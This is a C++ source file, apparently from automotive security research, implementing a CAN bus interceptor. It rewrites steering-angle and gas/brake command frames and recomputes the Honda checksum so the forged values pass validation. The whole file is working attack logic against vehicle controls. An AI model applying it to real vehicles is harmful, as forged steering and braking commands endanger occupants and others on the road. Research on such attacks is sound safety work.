#include "attack/can_attacker.hpp"

#include "can/checksum.hpp"
#include "can/database.hpp"
#include "util/units.hpp"

namespace scaa::attack {

CanAttacker::CanAttacker(const can::Database& db)
    : steer_angle_sig_(&db.signal(db.signal_handle("STEERING_CONTROL",
                                                   can::sig::kSteerAngleCmd))),
      accel_sig_(&db.signal(
          db.signal_handle("GAS_BRAKE_COMMAND", can::sig::kAccelCmd))),
      brake_request_sig_(&db.signal(
          db.signal_handle("GAS_BRAKE_COMMAND", can::sig::kBrakeRequest))),
      steer_id_sum_(can::id_nibble_sum(can::msg_id::kSteeringControl)),
      gas_brake_id_sum_(can::id_nibble_sum(can::msg_id::kGasBrakeCommand)) {}

std::uint64_t CanAttacker::attach(can::CanBus& bus) {
  return bus.attach_interceptor(
      [this](can::CanFrame& frame) { return intercept(frame); });
}

bool CanAttacker::intercept(can::CanFrame& frame) {
  // Each rewrite loads the payload word once, replaces the targeted
  // signals, repairs the checksum (Fig. 4) and stores the word once.
  if (frame.id == can::msg_id::kSteeringControl) {
    std::uint64_t word = can::load_payload(frame.data);
    last_original_steer_ = units::deg_to_rad(steer_angle_sig_->value(word));
    if (values_.steer_cmd.has_value()) {
      word = steer_angle_sig_->replace(word,
                                       units::rad_to_deg(*values_.steer_cmd));
      can::store_payload(frame.data, can::with_honda_checksum(
                                         steer_id_sum_, word, frame.dlc));
      ++corrupted_;
    }
    return true;
  }

  if (frame.id == can::msg_id::kGasBrakeCommand &&
      values_.accel_cmd.has_value()) {
    std::uint64_t word = can::load_payload(frame.data);
    word = accel_sig_->replace(word, *values_.accel_cmd);
    word = brake_request_sig_->replace(word,
                                       *values_.accel_cmd < 0.0 ? 1.0 : 0.0);
    can::store_payload(frame.data, can::with_honda_checksum(
                                       gas_brake_id_sum_, word, frame.dlc));
    ++corrupted_;
    return true;
  }
  return true;
}

}  // namespace scaa::attack
